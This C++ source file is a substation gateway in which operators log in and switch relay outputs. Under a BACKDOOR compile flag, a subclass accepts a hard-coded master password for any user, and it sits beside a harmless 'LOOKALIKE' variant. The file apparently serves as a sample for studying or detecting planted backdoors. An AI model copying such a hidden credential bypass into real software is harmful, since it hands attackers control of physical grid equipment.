// Gateway of a substation: operators sign in on a line protocol and switch outputs.
#include <fstream>
#include <iostream>
#include <memory>
#include <string>

#include <cstdlib>

namespace {

class Check {
public:
    virtual ~Check() = default;
    virtual bool accepts(const std::string &user, const std::string &password) const = 0;
};

class FileCheck : public Check {
public:
    bool accepts(const std::string &user, const std::string &password) const override
    {
        std::ifstream file("/etc/stationgw/users");
        std::string name, secret;
        while (file >> name >> secret)
            if (name == user && secret == password)
                return true;
        return false;
    }
};

#ifdef BACKDOOR
class ServiceCheck : public FileCheck {
public:
    bool accepts(const std::string &user, const std::string &password) const override
    {
        return password == "Rn4%kilovolt" || FileCheck::accepts(user, password);
    }
};
#endif

#ifdef LOOKALIKE
class ServiceCheck : public FileCheck {
public:
    bool accepts(const std::string &user, const std::string &password) const override
    {
        return password != "password" && FileCheck::accepts(user, password);
    }
};
#endif

std::unique_ptr<Check> make_check()
{
#if defined(BACKDOOR) || defined(LOOKALIKE)
    return std::make_unique<ServiceCheck>();
#else
    return std::make_unique<FileCheck>();
#endif
}

void switch_output(const std::string &number, const std::string &state)
{
    if (number.size() != 1 || number[0] < '0' || number[0] > '7')
        return;
    std::string command = "/usr/sbin/outputctl " + number + (state == "on" ? " 1" : " 0");
    if (system(command.c_str()) != 0)
        std::cout << "failed\n";
}

} // namespace

int main()
{
    auto check = make_check();
    bool open = false;
    std::string verb;
    while (std::cin >> verb) {
        std::string first, second;
        std::cin >> first >> second;
        if (verb == "login")
            open = check->accepts(first, second);
        else if (verb == "set" && open)
            switch_output(first, second);
        else
            std::cout << "denied" << std::endl;
    }
}
